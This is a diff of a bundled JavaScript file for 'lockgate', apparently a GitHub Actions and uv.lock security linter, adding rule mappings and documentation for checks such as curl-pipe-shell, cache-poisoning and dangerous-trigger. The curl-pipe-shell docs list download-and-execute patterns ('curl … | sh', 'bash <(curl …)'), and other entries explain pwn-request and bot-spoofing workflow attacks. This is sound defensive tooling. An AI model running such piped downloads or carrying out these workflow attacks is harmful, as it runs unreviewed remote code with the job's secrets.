@@ -30976,7 +30976,7 @@ function logLine(text) {
 
 /***/ }),
 
-/***/ 7831:
+/***/ 5070:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -31120,6 +31120,14 @@ const ZIZMOR_EQUIVALENTS = {
     'archived-uses': 'archived-uses',
     'forbidden-uses': 'forbidden-uses',
     'typosquat-uses': 'typosquat-uses',
+    'cache-poisoning': 'cache-poisoning',
+    'use-trusted-publishing': 'use-trusted-publishing',
+    'github-env': 'github-env',
+    'hardcoded-container-credentials': 'hardcoded-container-credentials',
+    'dependabot-execution': 'dependabot-execution',
+    'misfeature': 'misfeature',
+    'github-app': 'github-app',
+    'unpinned-tools': 'unpinned-tool',
 };
 const SCOPE_OF_RULE = {
     'dangerous-trigger': 'on',
@@ -31148,6 +31156,14 @@ const SCOPE_OF_RULE = {
     'archived-uses': 'step',
     'forbidden-uses': 'step',
     'typosquat-uses': 'step',
+    'cache-poisoning': 'step',
+    'use-trusted-publishing': 'step',
+    'github-env': 'step',
+    'hardcoded-container-credentials': 'job',
+    'dependabot-execution': 'update',
+    'misfeature': 'step',
+    'github-app': 'step',
+    'unpinned-tool': 'step',
 };
 /** Rules whose related locations are where zizmor reports the same finding (so its comment sits there). */
 const REPORTED_AT_RELATED = new Set(['unpinned-image']);
@@ -34917,16 +34933,21 @@ const RULE_DOCS = {
     "archived-uses": "# archived-uses\n\nDefault severity: **warning**.\n\nAn action or reusable workflow comes from an archived repository, which gets no more fixes.\n\nzizmor id: `archived-uses` (its ignore comment `# zizmor: ignore[archived-uses]` is honoured).\n\n## What it reports\n\nEvery `uses:` of a step (workflows and composite actions) or of a reusable-workflow job whose\n`owner/repo` is on the list of archived repositories lockgate ships: zizmor's\n`data/archived-repos.txt` (MIT, copied with its commit into `data/zizmor/`), 151 names, compared\ncase-insensitively. The check is offline. Confidence high, persona regular (zizmor: Medium / High).\nWhere the replacement is well known (`actions/create-release` → `softprops/action-gh-release` or\n`gh release create`), the fix names it (`data/archived-action-replacements.tsv`).\n\n## Why\n\nAn archived repository is read-only: its owner ships no fixes, security fixes included, and its\nown dependencies stay as old as they are. A vulnerability found in it later is never fixed there.\n\n## How to fix\n\nReplace it with the maintained action the fix names, or the commands it wrapped in a `run:` step.\n\n## How to ignore\n\n```yaml\n      # lockgate: ignore[archived-uses] vendored copy reviewed, replacement planned\n      - uses: actions/create-release@0cb9c9b65d5d1901c1f53e5e66eaf4afd303e70e # v1.1.4\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: archived-uses\n    path: .github/workflows/release.yml\n    until: 2027-03-01\n    reason: migrating to gh release in Q1\n```\n\n## Example\n\n```yaml\n    steps:\n      - uses: actions/create-release@v1\n```\n\n```\nwarning[archived-uses] .github/workflows/release.yml:8:15\n  The action actions/create-release comes from actions/create-release, an archived repository: ...\n  fix: Replace it with softprops/action-gh-release, or `gh release create` in a run: step ...\n```\n",
     "artipacked": "# artipacked\n\nDefault severity: **warning**; **error** when a later step uploads the workspace.\n\nactions/checkout persists the token in .git/config.\n\nzizmor id: `artipacked` (its ignore comment is honoured).\n\n## What it reports\n\nEvery `actions/checkout` step (any ref, in workflows and composite actions) without a\n`persist-credentials` input. The finding points at the `uses:` value. When a later step of the same\njob uploads the whole workspace with `actions/upload-artifact` (`path: .`, `./`, `..` or\n`${{ github.workspace }}`, with or without a trailing `/`, also as one line of a multi-line\n`path: |`), the message says so and the finding is an **error**: the token then ships inside the\nartifact, readable by anyone who can download it (zizmor's High case). From `actions/checkout` v6\non (the ref `@v6…`, or a SHA pin with a `# v6…` comment) the credential is kept in a file under\n`$RUNNER_TEMP` instead of the checkout, so a workspace upload does not carry it and the finding\nstays a warning (zizmor lowers v6 findings too). A checkout whose version cannot be read (a branch,\na bare SHA) is treated as older than v6.\n\nNot reported: `persist-credentials: false` (or `\"false\"`), an explicit `persist-credentials: true`\n(a deliberate choice for a job that pushes), and an expression (cannot be judged statically). This\nmatches zizmor's `artipacked` in its default persona.\n\nConfidence and persona ([confidence and personas](../confidence.md)), as zizmor's artipacked: with\na later workspace upload the finding is **high** confidence, without one **low** (the token is\nexposed only if something later reads `.git/config`). A checkout that says\n`persist-credentials: true` is a deliberate choice (a job that pushes): it is reported only to the\n**auditor** persona; `persist-credentials: ${{ … }}` cannot be judged statically and is reported\nto the **pedantic** persona. `persist-credentials: false` is never reported.\n\n## Why\n\nBy default `actions/checkout` writes the job's `GITHUB_TOKEN` into `.git/config` so later `git`\ncommands can push. Every later step, every action and every tool the job runs can read that file,\nand anything that archives or uploads the checkout (an artifact, a cache, a built sdist that\nincludes `.git`) carries the token out of the job. Most jobs never push.\n\n## How to fix\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: false\n```\n\nA job that must push can pass the token to that one command instead\n(`git push https://x-access-token:${GITHUB_TOKEN}@github.com/…`), or set\n`persist-credentials: true` explicitly, which lockgate accepts as a decision.\n\n## How to ignore\n\nOn the `uses:` line or the line above it:\n\n```yaml\n      # lockgate: ignore[artipacked] this job pushes the changelog commit\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: artipacked\n    path: .github/workflows/bump.yml\n    until: 2027-01-31\n    reason: pushes the version bump commit\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: make\n```\n\n```\nwarning[artipacked] .github/workflows/ci.yml:8:15\n  This checkout in job build leaves the job's GITHUB_TOKEN in .git/config for every later step\n  (persist-credentials defaults to true); any later step, action or uploaded artifact can read it.\n  fix: Add to this step:\n  with:\n    persist-credentials: false\n```\n",
     "bot-condition": "# bot-condition\n\nDefault severity: **error** when the bot check alone decides the condition; **warning** (medium\nconfidence) when it is one term of an `&&`.\n\nA `pull_request_target` job or step trusts `github.actor` to be a bot, which an attacker can arrange.\n\nzizmor id: `bot-conditions` (its ignore comment `# zizmor: ignore[bot-conditions]` is honoured).\n\n## What it reports\n\nIn a workflow triggered by `pull_request_target`, a job's or a step's `if:` that grants on an actor\ncheck against a bot:\n\n- `github.actor`, `github.triggering_actor` or `github.event.pull_request.sender.login` compared\n  with `==` to a name ending in `[bot]` (`'dependabot[bot]'`, `'renovate[bot]'`, in any case, either\n  side of the `==`);\n- `github.actor_id` or `github.event.pull_request.sender.id` compared to a known bot id\n  (dependabot[bot] 49699333 and its integration id 29110, dependabot-preview[bot] 27856297,\n  renovate[bot] 29139614).\n\nThe condition is read as GitHub reads it, bare or in one `${{ }}`. A check that decides the whole\ncondition (`bot`, `bot || x`, `!(x && !bot)`) is an error with high confidence; a check that is one\nterm of an `&&` (`x && bot`) is a warning with medium confidence, as zizmor grades them. A check that\ndenies the bot (`github.actor != 'dependabot[bot]'`, `!(github.actor == 'dependabot[bot]')`) is not\nreported: spoofing it only stops the job. Workflows on other triggers are not reported (zizmor's\nscope: there the job has no secrets and a read-only token when a fork triggers it).\n\n## Why\n\n`github.actor` is the account that caused the latest event of the run, not the author of the pull\nrequest. An attacker who opens a pull request and then gets Dependabot or Renovate to act on it (for\nexample by asking it to rebase or recreate, or by triggering an update of a branch it manages) makes\nthe next `pull_request_target` run have `github.actor == 'dependabot[bot]'`. An \"auto-merge\nDependabot PRs\" job guarded this way then approves, merges or runs the attacker's code with the\nworkflow's write token and secrets.\n\n## How to fix\n\nCheck the pull request's author, which nobody else can take over:\n\n```yaml\n    if: github.event.pull_request.user.login == 'dependabot[bot]'\n```\n\nBetter still, run Dependabot automation on `pull_request` (Dependabot's pull requests get its own\nsecrets there, a fork gets none), and keep `pull_request_target` jobs from acting on the pull\nrequest's code.\n\n## How to ignore\n\n`# lockgate: ignore[bot-condition]` on the `if:` line or on the line above it, or a config entry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: bot-condition\n    path: .github/workflows/automerge.yml\n    until: 2027-01-31\n    reason: the job only labels, with a read-only token\n```\n\n## Example\n\n```yaml\non: pull_request_target\njobs:\n  automerge:\n    runs-on: ubuntu-latest\n    if: github.actor == 'dependabot[bot]'\n    steps:\n      - run: gh pr merge --auto --squash \"$PR_URL\"\n```\n\n```\nerror[bot-condition] .github/workflows/automerge.yml:5:9\n  The if: of job automerge trusts github.actor == 'dependabot[bot]' in a pull_request_target workflow;\n  github.actor names whoever caused the latest event, not who opened the pull request, so an attacker\n  who gets the bot to act on their pull request (a rebase or recreate, for instance) passes the check\n  and runs with this workflow's write token and secrets.\n  fix: Check who opened the pull request instead: github.event.pull_request.user.login ==\n  'dependabot[bot]' (and, for Dependabot, run its automation on pull_request, where a fork gets no\n  secrets).\n```\n",
+    "cache-poisoning": "# cache-poisoning\n\nDefault severity: **warning**.\n\nA job that publishes a release restores a cache another workflow may have poisoned.\n\nzizmor id: `cache-poisoning` (its ignore comment is honoured).\n\n## What it reports\n\nA cache-aware step with caching on (actions/cache and actions/cache/restore, setup-node/python/java/graalvm with `cache:`, setup-go by default, setup-uv by its own defaults (`enable-cache: auto` from v5, which from v10 is off for release events and tag pushes, so a v10 step counts only when the workflow also runs on another event), setup-dotnet `cache: true`, ruby/setup-ruby `bundler-cache: true`, Swatinem/rust-cache, setup-gradle, mise, setup-zig, sccache, magic-nix-cache) in a job that publishes: the workflow is triggered by `release`, a tag push (`push.tags`) or a push to a branch whose name contains \"release\", or the job has a publishing step (pypi-publish, action-gh-release, goreleaser, release-gem, …). An opt-out input (`enable-cache: false`, `cache: false`, `lookup-only: true`) or the `${{ !startsWith(github.ref, 'refs/tags/') }}` toggle turns it off; any other expression is not judged. Confidence low, as in zizmor.\n\n## Why\n\nGitHub's caches are shared across a repository's workflows; a cache written by a less trusted run can be restored into the release build and shipped.\n\n## How to fix\n\nTurn caching off in publishing jobs (`enable-cache: false` for setup-uv), or guard it with `${{ !startsWith(github.ref, 'refs/tags/') }}`.\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[cache-poisoning] <reason>`, or an `ignore:`\nentry with `rule: cache-poisoning` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[cache-poisoning]` is honoured.\n\n## Example\n\n```yaml\non:\n  release:\n    types: [published]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: astral-sh/setup-uv@v7\n      - run: uv build\n```\n",
     "cooldown-unverified": "# cooldown-unverified\n\nDefault severity: **warning**.\n\nThe upload time of a newly locked version could not be established.\n\n## What it reports\n\nAn entry this change brings into `uv.lock` whose age lockgate cannot check against the cooldown:\n\n- a registry package whose lock has no `upload-time` (locks written before uv 0.6.15, or from an\n  index without PEP 700 upload times, such as HTML-only private mirrors), when the index could not\n  date it either: lockgate ran offline (no request is made at all), the index did not answer\n  within the time budget, no longer lists the files, or lists them without upload times;\n- a registry package some of whose new files are dated and some are not (neither the lock nor\n  the index has a time for them), unless the dated files already make it too young (then the\n  `cooldown` error says so): files can be added to a release long after it was published, so an\n  old sdist says nothing about a wheel uploaded yesterday under the same version. The finding names\n  the undated files;\n- a package from a direct URL or from git: neither has an upload time, and uv's `exclude-newer`\n  does not apply to them.\n\nPath, directory and editable sources are the repository's own code and are not reported. With a\ncooldown of 0 days, nothing is reported. Exempt packages are shown as waived.\n\nA registry package from an index that only the pull request names (one that base neither used nor\ndeclared, and that is not PyPI or the `index-url` input) is not looked up either: the lock is the\npull request's own text, and following its URLs would let it point the runner at any host, an\ninternal one on a self-hosted runner. Such entries are reported here, and the index itself by\n`new-index`. Set `index-url` to that index to have it asked.\n\n## Why\n\nAn entry whose age is unknown may be a release published minutes ago. A warning keeps that\nvisible instead of passing it silently.\n\n## How to fix\n\n- Run lockgate online (without `--offline` / `offline: true`), so it asks the index.\n- Re-lock with uv 0.6.15 or later from an index that serves upload times, so the lock records them:\n  `uv lock --refresh`.\n- For git and URL sources, review the commit or archive, pin it (a `rev` for git, a hash for URLs),\n  and record the review as an exemption:\n\n```yaml\n# .github/lockgate.yml\ncooldown:\n  exempt:\n    - package: internal-tool\n      until: 2027-01-31\n      reason: our own repository, reviewed on merge\n```\n\n## How to ignore\n\nA `cooldown.exempt` entry (above), a config `ignore:` entry with a reason and `until`, or\n`# lockgate: ignore[cooldown-unverified]` on the line above the package in `uv.lock`.\n\n## Example\n\n```\nuv.lock:24 warning cooldown-unverified: httpx 0.28.1 has no upload time in the lock (written by uv\nbefore 0.6.15, or from an index without PEP 700 upload times), and lockgate ran offline, so its age\nagainst the cooldown of 7 days is unknown.\n\nuv.lock:5 warning cooldown-unverified: anyio 4.10.0 locks\nanyio-4.10.0-cp312-cp312-manylinux_2_17_x86_64.whl with no upload time, though its other new files\nhave one (uploaded 2026-05-01 10:00 UTC), and lockgate ran offline, so the age of that file against\nthe cooldown of 7 days is unknown. Files can be added to a release long after it was published, so\nthe dates of the others say nothing about this one.\n```\n",
     "cooldown": "# cooldown\n\nDefault severity: **error**.\n\nA newly locked version is younger than the cooldown, or breaks the lock's own exclude-newer.\n\n## What it reports\n\n1. **A release too young.** Every entry this change brings into `uv.lock` (a new package, a new\n   version, or new files for the same version) whose youngest *new* file was uploaded less than\n   the cooldown before now. The cooldown is the larger of lockgate's setting (`cooldown-days`\n   input, `--cooldown`, or `cooldown.days` in the config; 7 by default) and the project's own\n   relative `exclude-newer` (`\"7 days\"`, `\"1 week\"`, `\"P7D\"`, …; a package's own\n   `exclude-newer-package` span replaces the global one, as in uv). The message gives the upload\n   time, the age, the cooldown, and **the date the version becomes eligible**.\n2. **The lock breaks its own exclude-newer.** A registry file in the lock uploaded after the\n   cutoff the lock records in `[options]`: an absolute `exclude-newer`, or, for a relative one\n   (`exclude-newer-span`, the `0001-01-01T00:00:00Z` sentinel written by uv 0.11.8 and later),\n   the head commit's time minus the span. `[options.exclude-newer-package]` entries beat the\n   global value. uv never picks such a file, so the entry was written by hand or by a tool that\n   ignored the project's settings. Every locked package is checked, so adding `exclude-newer`\n   without re-locking is caught too; the finding is *introduced* unless base had the same breach.\n   What uv writes itself is not a breach: uv excludes a file uploaded at or after the cutoff and\n   writes a version from the distribution it chose, so a version admitted through a wheel keeps\n   its sdist whatever the sdist's time, and a version admitted through its sdist (every wheel\n   excluded) keeps all its wheels (uv's `PrioritizedDist::built_dist` and `source_dist`).\n\nUpload times come from the lock (`upload-time`, uv 0.6.15 and later). Online, the package index\nis asked as well, and its time wins when it is later than the lock's: the lock is text anyone in\nthe change can edit. Entries that cannot be dated are `cooldown-unverified`.\n\nExemptions are reported as **waived**, not hidden: a `cooldown.exempt` entry in the config (with\na reason and an expiry; an expired one no longer waives, and the finding says so), or the\nproject's own `exclude-newer-package` for the package: `= false`, or a timestamp later than the\nrelease's files (`httpx = \"2026-12-01T00:00:00Z\"` is how a project admits one reviewed release\npast its global cooldown; it is honoured for the files uploaded before that date, as uv honours\nit). An exemption does not waive a breach of the lock's own cutoff.\n\nAn `exclude-newer-package` entry waives only when the base has it too (or a wider one): an entry\nthe pull request itself adds or widens is one it grants itself, so the finding stays, and says\nwhich entry did not count. That is why lockgate reads its own config from the base: a change cannot\nloosen its own gate. Land the entry in a reviewed change of its own (or a `cooldown.exempt` entry\nin the base config) first. In a full audit (no base revision) the project's entries are the\nreviewed state and are honoured.\n\n## Why\n\nMost malicious releases are found and removed from PyPI within hours to a few days. A cooldown\nkeeps them out of the lock until then. uv's `exclude-newer` applies it only when uv resolves;\nDependabot's and Renovate's cooldowns only to their own pull requests. A lock edited by hand, by\nanother tool, or by a contributor without the project's settings gets neither. lockgate checks\nthe lock itself on every change, whoever wrote it.\n\n## How to fix\n\nWait until the date in the message and re-run, or keep the previous version:\n\n```sh\nuv lock --upgrade-package 'httpx==0.27.2'\n```\n\nFor a breach of the lock's own cutoff, re-resolve under the project's settings:\n\n```sh\nuv lock --upgrade-package httpx\n```\n\nIf the release cannot wait (a security fix), exempt it with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\ncooldown:\n  exempt:\n    - package: httpx\n      until: 2026-12-06\n      reason: fixes CVE-2026-1234, reviewed by @alice\n```\n\nTo let uv itself take a newer file of one package, give it its own cutoff (in a change merged\nbefore the one that locks the release: an entry a pull request adds for itself does not waive its\nown finding):\n\n```toml\n[tool.uv.exclude-newer-package]\nhttpx = \"2026-12-01T00:00:00Z\"\n```\n\n## How to ignore\n\nPrefer a `cooldown.exempt` entry (above): it is reported as waived and expires. A config\n`ignore:` entry with a reason and `until` also works, or `# lockgate: ignore[cooldown]` on the\nline above the package in `uv.lock` (lost on the next `uv lock`).\n\n## Example\n\n```\nuv.lock:82 error cooldown: idna 3.16 was uploaded 2026-11-23 09:14 UTC, 3.1 days ago, inside the\ncooldown of 7 days; it becomes eligible on 2026-11-30 09:15 UTC. Most malicious releases are found\nand removed within days, so a release this young has not had that time.\n  fix: Wait until 2026-11-30 09:15 UTC and re-run; or keep the previous version:\n  uv lock --upgrade-package idna==3.15; or, if this release cannot wait, exempt it …\n```\n",
     "curl-pipe-shell": "# curl-pipe-shell\n\nDefault severity: **warning**.\n\nA workflow pipes a download into a shell or interpreter.\n\n## What it reports\n\nIn `run:` scripts (workflows and composite actions), a download run as code without being checked:\n\n- `curl …` or `wget -O- …` (also `irm` / `iwr` in PowerShell) piped into a program that runs its\n  standard input: `sh`, `bash`, `zsh`, `sudo -E bash -`, `sh -s -- -y`, `python3 -`, `perl`,\n  `ruby`, `node`, `iex`; stages in between (`| tee log |`) do not matter;\n- `bash <(curl …)`, `source <(curl …)`, `sh -c \"$(curl …)\"`, `eval \"$(wget -O- …)\"`;\n- the same inside `bash -c '…'` or `powershell -c \"…\"`.\n\nNot reported: a download piped into a program that reads it as data (`| jq`, `| python -c \"…\"`,\n`| python -m json.tool`, `| bash -c '…'`); a download saved to a file (`curl -o`, plain `wget`);\nURLs that name immutable content (`https://raw.githubusercontent.com/{owner}/{repo}/{40-hex sha}/…`).\nDownloading to a file and running it later is not reported either: that is where a checksum check\nbelongs. The finding points at the line where the command starts.\n\n## Why\n\nThe script runs with the job's token and secrets, and nobody reviewed the bytes: whoever controls\nthe URL, its CDN, a DNS answer or a compromised release can change them between two runs. A partial\ndownload can even run half a script. Installers such as `https://astral.sh/uv/install.sh` are\nconvenient, but the job trusts a moving target.\n\n## How to fix\n\nUse a pinned action when there is one (for uv, `astral-sh/setup-uv`, pinned by SHA, which verifies\nchecksums). Otherwise download to a file, check it against a hash you recorded, then run it:\n\n```sh\ncurl -fsSLo install.sh https://example.com/install.sh\necho \"<sha256>  install.sh\" | sha256sum -c -\nsh install.sh\n```\n\n## How to ignore\n\nOn the command's line or the line above it:\n\n```yaml\n      - run: |\n          # lockgate: ignore[curl-pipe-shell] vendor installer, verified by its own signature check\n          curl -fsSL https://example.com/install.sh | sh\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: curl-pipe-shell\n    path: .github/workflows/bench.yml\n    until: 2027-01-01\n    reason: benchmark runner, replaced by a pinned action next quarter\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -LsSf https://astral.sh/uv/install.sh | sh\n      - run: uv sync --locked\n```\n\n```\nwarning[curl-pipe-shell] .github/workflows/ci.yml:8\n  `curl -LsSf https://astral.sh/uv/install.sh | sh` downloads https://astral.sh/uv/install.sh and runs\n  it (piped into sh) without checking what was downloaded: whoever controls that URL, or its CDN, runs\n  code in this job.\n  fix: uses: astral-sh/setup-uv@<sha> # <tag>   (installs uv with checksum verification), instead of the install script\n```\n",
     "dangerous-trigger": "# dangerous-trigger\n\nDefault severity: **error**; **warning** or **notice** when no job can write with its token (see\nbelow).\n\nA workflow runs on pull_request_target or workflow_run.\n\n## What it reports\n\nA workflow whose `on:` names `pull_request_target` or `workflow_run`, in any form (`on: x`,\n`on: [a, x]`, or a key under `on:`). The finding points at the trigger's name. One finding a trigger.\n\nThe message says when the workflow also brings the untrusted code into the job, the worst case:\n- an `actions/checkout` whose `ref:` or `repository:` names the pull request's head\n  (`github.event.pull_request.head.*`, `github.head_ref`, `…merge_commit_sha`, `refs/pull/…`) or,\n  under `workflow_run`, the triggering run's head (`github.event.workflow_run.head_sha`,\n  `head_branch`, …);\n- a `run:` line that does `gh pr checkout`, or `git fetch|checkout|switch|pull|worktree` of such a\n  ref (`pull/${PR}/head` included);\n- a checkout of a step or job output whose name contains `head` (`needs.x.outputs.head_sha`): likely\n  the same thing passed along, reported as \"appears to\".\n\nLike zizmor's `dangerous-triggers`, one shape is not reported: a workflow whose only job is a single\n`actions/labeler` step, the documented use of `pull_request_target`.\n\nThe message says what the workflow's jobs actually get, read from the effective permissions of each\njob: the job's `permissions:` when it has one (it replaces the workflow's entirely), else the\nworkflow's, else the repository's default, which lockgate cannot see and which can be read-write\non every scope, so \"absent\" means \"may write\". `permissions: {}`, `none` scopes, `read-all` and\n`read` scopes cannot write; `write-all` and any `<scope>: write` (including `id-token: write`) can; a\nvalue lockgate cannot read (an expression) may. It also names the secrets the workflow reads\n(`secrets.NAME`; `secrets: inherit`, `toJSON(secrets)` or a computed name count as all of them;\n`GITHUB_TOKEN` is the token itself). The severity follows from that:\n\n| the workflow | severity |\n|---|---|\n| brings the pull request's (or triggering run's) code into a job, as above | **error**, whatever the token: the code runs in the base repository's context, and even with no token and no secret it can poison the caches the base branch's workflows restore |\n| no such checkout, but some job's token can write, or may (no `permissions:` anywhere, or unreadable) | **error** (zizmor rates every use High) |\n| no such checkout, no job can write, but it reads secrets | **warning**: a step that hands the pull request's text to a shell or an action can leak them |\n| no such checkout, no job can write, no secret | **notice**: little is exposed while it stays that way |\n\n## Why\n\nBoth triggers run in the context of the base repository: with its secrets and, unless\n`permissions:` says otherwise, a `GITHUB_TOKEN` that can write, even when a fork's pull request\nstarted them. `pull_request` from a fork gets neither. So any fork-controlled input that reaches\nthese workflows (the PR title, a branch name, an artifact of the triggering run, and above all the\nPR's code: its build scripts, test files, `pyproject.toml` build backend) runs with those\nprivileges. Checking out the PR head in a `pull_request_target` workflow and then installing or\ntesting it is the classic \"pwn request\".\n\n## How to fix\n\n- Use `pull_request` when the job needs no secrets and no write access: rename the key under `on:`.\n- If the job must comment, label or otherwise write, keep `pull_request_target` but never check out,\n  build or run the pull request's code in it; read only the event payload, and keep `permissions:`\n  to the scopes it writes.\n- For `workflow_run`, treat everything from the triggering run (artifacts, branch names, its code)\n  as untrusted data, and check\n  `github.event.workflow_run.head_repository.full_name == github.repository` before using it.\n\n## How to ignore\n\nOn the trigger's line or the line above it, with the reason:\n\n```yaml\non:\n  # lockgate: ignore[dangerous-trigger] reads the payload only, never checks out the PR\n  pull_request_target:\n```\n\nzizmor's comment for the same audit is honoured too, anywhere in the `on:` block as zizmor reads it\n(see [docs/ignoring.md](../ignoring.md)):\n\n```yaml\non: # zizmor: ignore[dangerous-triggers] reads the payload only\n  pull_request_target:\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: dangerous-trigger\n    path: .github/workflows/label.yml\n    until: 2027-01-31\n    reason: labels PRs from the payload; no checkout\n```\n\n## Example\n\n```yaml\non:\n  pull_request_target:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: uv run pytest\n```\n\n```\nerror[dangerous-trigger] .github/workflows/test.yml:2:3\n  pull_request_target runs this workflow for pull requests from forks, in the base repository's\n  context, with a GITHUB_TOKEN that may write (job test has no permissions: block and neither has\n  the workflow, so the repository's default applies, which can be read-write on every scope) and no\n  secrets. Worst case: line 9 (ref: ${{ github.event.pull_request.head.sha }}) brings the pull\n  request's code into the job, where anything that runs it runs attacker code with those privileges.\n```\n\nWith `permissions: {}` at the top and no checkout of the head, the same trigger is a notice:\n\n```\nnotice[dangerous-trigger] .github/workflows/comment.yml:2:3\n  pull_request_target runs this workflow for pull requests from forks, in the base repository's\n  context, with a GITHUB_TOKEN with no permissions (permissions: {}) and no secrets. No job checks\n  out the pull request's code, the token cannot write and no secret is read, so little is exposed\n  while it stays that way.\n```\n",
     "dependabot-cooldown": "# dependabot-cooldown\n\nDefault severity: **warning**.\n\nA Dependabot ecosystem updates without a cooldown.\n\n## What it reports\n\nIn `.github/dependabot.yml` (or `.yaml`), each `updates:` entry that does not wait at least the\ncooldown before proposing a release:\n\n- no `cooldown:` at all: the finding points at the entry's `package-ecosystem` line;\n- `cooldown:` without `default-days`: at the `package-ecosystem` line;\n- `default-days` below the cooldown, or not a number: at the `default-days` line;\n- `semver-major-days`, `semver-minor-days` or `semver-patch-days` below the cooldown: at that line\n  (they override `default-days` for that kind of release).\n\nThe cooldown is lockgate's: `--cooldown` / the `cooldown-days` input, or `cooldown.days` in\n`.github/lockgate.yml` when longer (7 days by default), capped at 90, the most Dependabot accepts.\n\nEvery ecosystem is checked, not only `pip`, `uv` and `github-actions`: a compromised npm package or\nDocker image reaches a pull request the same way. For Python ecosystems the message adds that\nDependabot would open pull requests that lockgate's `cooldown` rule then fails. `include` / `exclude`\nlists are not judged: excluding a package from the cooldown is a visible, deliberate choice.\n\nzizmor's `dependabot-cooldown` does the same check (default 7 days); unlike zizmor at the time of\nwriting, lockgate reports every short entry of a file, not only those before the first good one.\n\n## Why\n\nMalicious releases are usually found and removed within days. Dependabot's cooldown makes it wait\nthat long before proposing a new version, so a hijacked release is gone before a pull request for it\nexists. Matching it to lockgate's cooldown also avoids update pull requests that the lockgate check\nwould fail (uv's docs recommend matching `default-days` to `exclude-newer` for the same reason).\n\n## How to fix\n\nAdd to the entry (same indentation as `package-ecosystem`):\n\n```yaml\n  - package-ecosystem: uv\n    directory: /\n    schedule:\n      interval: weekly\n    cooldown:\n      default-days: 7\n```\n\n## How to ignore\n\nOn the flagged line or the line above it:\n\n```yaml\n  # lockgate: ignore[dependabot-cooldown] internal packages only\n  - package-ecosystem: pip\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: dependabot-cooldown\n    path: .github/dependabot.yml\n    until: 2027-01-31\n    reason: security updates only on this branch\n```\n\n## Example\n\n```yaml\nversion: 2\nupdates:\n  - package-ecosystem: github-actions\n    directory: /\n    schedule:\n      interval: monthly\n```\n\n```\nwarning[dependabot-cooldown] .github/dependabot.yml:3:5\n  Dependabot github-actions updates have no cooldown, so Dependabot proposes a release the moment it\n  is published, before a compromised one is likely to be caught; lockgate's cooldown is 7 days.\n  fix: Add to this entry:\n      cooldown:\n        default-days: 7\n```\n",
+    "dependabot-execution": "# dependabot-execution\n\nDefault severity: **error**.\n\nA Dependabot ecosystem may run code from the dependencies it updates.\n\nzizmor id: `dependabot-execution` (its ignore comment is honoured).\n\n## What it reports\n\nA dependabot.yml `updates:` entry with `insecure-external-code-execution: allow`.\n\n## Why\n\nDependabot then runs code from the manifests and packages it updates, with the entry's private registry credentials at hand.\n\n## How to fix\n\nDelete the key (or set it to `deny`).\n\n## How to ignore\n\nOn the reported line or the line above it: `# lockgate: ignore[dependabot-execution] <reason>`, or an `ignore:`\nentry with `rule: dependabot-execution` in `.github/lockgate.yml`. zizmor's `# zizmor: ignore[dependabot-execution]` is honoured.\n\n## Example\n\n```yaml\nversion: 2\nupdates:\n  - package-ecosystem: pip\n    directory: /\n    schedule:\n      interval: weekly\n    insecure-external-code-execution: allow\n```\n",
     "downgrade": "# downgrade\n\nDefault severity: **notice**.\n\nA locked package moved to a lower version.\n\n## What it reports\n\nA package locked from the same source at base and head whose head version is lower by PEP 440\nordering (`2.2.2` to `2.2.1`, `1.0` to `1.0rc1`). The finding points at the head entry's\n`[[package]]` line in `uv.lock`. Forked resolutions (one name at several versions) are matched\nversion by version from the highest down, so adding or dropping a fork is not a downgrade, and\n`1.0` to `1.0.0` is no change at all. A move to another source is reported by `source-changed`\ninstead.\n\n## Why\n\nA downgrade can bring back bugs and vulnerabilities fixed in between, and it is easy to miss in a\nlarge lock diff: a tighter specifier, a new constraint or an override in another package can pull a\ndependency down without anyone asking for it.\n\n## How to fix\n\nIf it is intended (a regression in the newer release), nothing. Otherwise undo the change that\nlowered it (a tighter specifier, a `constraint-dependencies` or `override-dependencies` entry) and\nre-lock:\n\n```sh\nuv lock --upgrade-package urllib3\n```\n\n## How to ignore\n\nA config entry, limited to the package, with a reason and an expiry (a comment in `uv.lock` does\nnot survive the next `uv lock`):\n\n```yaml\nignore:\n  - rule: downgrade\n    package: coverage\n    reason: 7.13.1 breaks our branch coverage; pinned to <=7.13 until 7.13.2\n    until: 2026-06-30\n```\n\nOr `# lockgate: ignore[downgrade]` on the `[[package]]` line or the line above.\n\n## Example\n\n```\nuv.lock:63 notice downgrade: urllib3 goes down from 2.2.2 to 2.2.1. A downgrade can bring back bugs\nand vulnerabilities fixed in between; make sure it is intended.\n```\n",
